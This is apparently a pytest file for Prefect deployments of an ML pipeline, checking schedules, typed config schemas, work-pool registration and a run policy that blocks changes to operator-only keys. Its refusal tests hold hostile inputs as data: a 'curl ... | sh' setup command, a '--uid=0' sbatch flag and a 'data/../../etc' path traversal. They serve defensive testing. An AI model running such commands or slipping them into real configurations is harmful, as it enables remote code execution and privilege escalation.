"""`mclpipe serve` deployments: schedules from config, the typed config as the UI form's schema."""
import asyncio
import json

import pytest
from prefect.client.orchestration import get_client

from flows.deployments import build_deployments
from pipeline_config.schema import ImagePipelineConfig


def test_deployments_carry_schedule_and_typed_parameters():
    cron, interval = build_deployments(["trifeature_tiny", "trifeature_mcl"],
                                       ["schedule.cron=0 3 * * *"])[0], None
    assert cron.name == "trifeature_tiny"
    assert cron.schedules[0].schedule.cron == "0 3 * * *"
    config = ImagePipelineConfig.model_validate(cron.parameters["config"])
    assert config.name == "trifeature_tiny"
    interval = build_deployments(["trifeature_tiny"], ["schedule.interval_minutes=90"])[0]
    assert interval.schedules[0].schedule.interval.total_seconds() == 5400

    deployment_id = cron.apply()

    async def read():
        async with get_client() as client:
            return await client.read_deployment(deployment_id)

    stored = asyncio.run(read())
    assert stored.enforce_parameter_schema
    assert "ImagePipelineConfig" in stored.parameter_openapi_schema["definitions"]
    # The config is typed as the deployment's own modality (a form in the UI), not the union of all (raw JSON).
    assert stored.parameter_openapi_schema["properties"]["config"]["$ref"] == "#/definitions/ImagePipelineConfig"
    assert "ClipPipelineConfig" not in stored.parameter_openapi_schema["definitions"]
    assert stored.parameter_openapi_schema["definitions"]["TrainConfig"]["additionalProperties"] is False
    assert stored.schedules and stored.schedules[0].schedule.cron == "0 3 * * *"
    assert "A run may change only: seed, train.epochs" in stored.description  # what the deployment page says


def test_each_deployment_types_its_config_as_its_own_modality():
    for deployment, config_class in zip(build_deployments(["trifeature_tiny", "clip_tiny", "text_tiny"]),
                                        ["ImagePipelineConfig", "ClipPipelineConfig", "TextPipelineConfig"]):
        schema = deployment._parameter_openapi_schema.model_dump_for_openapi()
        assert schema["properties"]["config"]["$ref"] == f"#/definitions/{config_class}"
        assert "oneOf" not in schema["properties"]["config"]
        assert schema["properties"]["rerun_from"]  # the flow's other parameter stays


def test_deploy_to_a_process_work_pool_registers_the_checkout(tmp_path):
    """`mclpipe deploy CONFIG --work-pool P --source DIR` on a real server: the deployment names the pool, pulls the
    code from DIR and runs the flow's entrypoint with the typed config; a pool that does not exist is a ConfigError
    naming the command that creates it (flow.deploy() in prefect 3.8.8 failed here with a 422 from the server)."""
    import pytest
    from prefect.client.schemas.actions import WorkPoolCreate

    from contrastive.errors import ConfigError
    from flows.deployments import ENTRYPOINT, REPO_ROOT, deploy_to_work_pool

    with pytest.raises(ConfigError, match="prefect work-pool create nowhere --type process"):
        deploy_to_work_pool(config_name="trifeature_tiny", work_pool="nowhere")

    async def create_pool():
        async with get_client() as client:
            await client.create_work_pool(WorkPoolCreate(name="unit-cpu", type="process"))
    asyncio.run(create_pool())
    deployment_id = deploy_to_work_pool(config_name="trifeature_tiny", work_pool="unit-cpu",
                                        overrides=["train.epochs=2"], source=str(REPO_ROOT))

    async def read():
        async with get_client() as client:
            return await client.read_deployment(deployment_id)

    stored = asyncio.run(read())
    assert stored.work_pool_name == "unit-cpu" and stored.entrypoint == ENTRYPOINT
    assert stored.pull_steps == [{"prefect.deployments.steps.set_working_directory": {"directory": str(REPO_ROOT)}}]
    assert ImagePipelineConfig.model_validate(stored.parameters["config"]).train.epochs == 2
    assert set(stored.tags) == {"mclpipe", "image"}


class ReachedCompute(Exception):
    """Raised by the first step in place of preparing data: the flow got past its checks."""


def _run_from_deployment(deployment, config_changes: dict, monkeypatch):
    """Start a run of ``deployment`` with its stored config changed by ``config_changes`` (dotted key -> value),
    as the UI's Custom run form or the API sends it, and execute that flow run here (as a worker would). The first
    step raises ReachedCompute, so a run that passes the checks stops there. Returns the final state."""
    from prefect.flow_engine import run_flow

    from flows.pipeline import mcl_pipeline
    from tasks import steps

    def first_step(**_):
        raise ReachedCompute("the flow reached its first step")

    monkeypatch.setattr(steps, "prepare_data", first_step)
    deployment_id = deployment.apply()
    config = json.loads(json.dumps(deployment.parameters["config"]))
    for dotted, value in config_changes.items():
        node = config
        *parents, last = dotted.split(".")
        for part in parents:
            node = node[part]
        node[last] = value
    with get_client(sync_client=True) as client:
        flow_run = client.create_flow_run_from_deployment(deployment_id, parameters={"config": config})
    return run_flow(mcl_pipeline, flow_run=flow_run, return_type="state")


@pytest.mark.parametrize("key, value", [
    ("launcher.slurm.setup", ["curl -s https://example.org/x | sh"]),
    ("launcher.slurm.extra_sbatch", ["--uid=0"]),
    ("launcher.kubernetes.image", "example.org/other:1"),
    ("output_dir", "/tmp/elsewhere"),
    ("tracking.uri", "http://example.org:5000"),
    ("run_policy.overridable", ["seed", "launcher.kind"]),
    ("launcher.kind", "torchrun"),
    ("train.batch_size", 8),
])
def test_a_run_that_changes_an_operator_only_key_is_refused_before_any_compute(key, value, monkeypatch):
    state = _run_from_deployment(build_deployments(["trifeature_tiny"])[0], {key: value}, monkeypatch)
    assert state.is_failed()
    message = state.message
    assert f"changes {key}, which the deployment fixes" in message and "ReachedCompute" not in message


@pytest.mark.parametrize("changes", [{}, {"train.epochs": 2}, {"seed": 7, "train.lr": 0.01},
                                     {"mcl.clusters": [4, 2]}, {"data.cache_dir": "data/trifeature"}])
def test_a_run_that_changes_only_allowed_keys_reaches_its_first_step(changes, monkeypatch):
    state = _run_from_deployment(build_deployments(["trifeature_tiny"])[0], changes, monkeypatch)
    assert state.is_failed() and "ReachedCompute" in state.message, state.message


def test_a_data_path_outside_the_allowed_roots_is_refused(monkeypatch):
    state = _run_from_deployment(build_deployments(["trifeature_tiny"])[0], {"data.cache_dir": "data/../../etc"},
                                 monkeypatch)
    assert state.is_failed() and "sets data.cache_dir='data/../../etc'" in state.message
    assert "outside the allowed roots" in state.message and "ReachedCompute" not in state.message


def test_the_operator_changes_the_allow_list_at_deploy_time(monkeypatch):
    deployment = build_deployments(["trifeature_tiny"], ["run_policy.overridable=[train.batch_size]"])[0]
    state = _run_from_deployment(deployment, {"train.batch_size": 8}, monkeypatch)
    assert "ReachedCompute" in state.message
    state = _run_from_deployment(deployment, {"train.epochs": 2}, monkeypatch)
    assert "changes train.epochs, which the deployment fixes: a run may change only train.batch_size" in state.message


def test_a_shell_key_can_never_be_made_overridable():
    from contrastive.errors import ConfigError

    for pattern in ("launcher.slurm.setup", "launcher", "*", "launcher.kubernetes", "output_dir"):
        with pytest.raises(ConfigError, match="which only the operator sets at deploy time"):
            build_deployments(["trifeature_tiny"], [f"run_policy.overridable=['{pattern}']"])


def test_a_worker_loads_the_entrypoint_with_flows_first_on_sys_path():
    """A worker runs ``flows/pipeline.py:mcl_pipeline`` as a script (import_object -> load_script_as_module puts flows/ at
    the front of sys.path): a module of flows/ named like a top-level package of the project (flows/planning.py
    beside planning/) hid that package and every deployment run failed at import. Loaded as the worker loads it,
    in a fresh process from the repository root."""
    import subprocess
    import sys
    import sysconfig

    from flows.deployments import ENTRYPOINT, REPO_ROOT

    # -S: no .pth files, so no editable-install finder maps `planning` to the checkout behind sys.path's back (as
    # in the image, whose worker imports the code from the checkout it was given); the dependencies from purelib
    load = (f"import sys; sys.path.append({sysconfig.get_paths()['purelib']!r}); "
            "from prefect.utilities.importtools import import_object; "
            f"print(import_object({ENTRYPOINT!r}).name)")
    done = subprocess.run([sys.executable, "-S", "-c", load], cwd=REPO_ROOT, capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.strip().splitlines()[-1] == "mcl-pipeline"
    packages = {p.name for p in REPO_ROOT.iterdir() if (p / "__init__.py").exists()}
    shadowing = sorted(m.stem for m in (REPO_ROOT / "flows").glob("*.py") if m.stem in packages)
    assert not shadowing, f"flows/ modules named like the project's packages: {shadowing}"
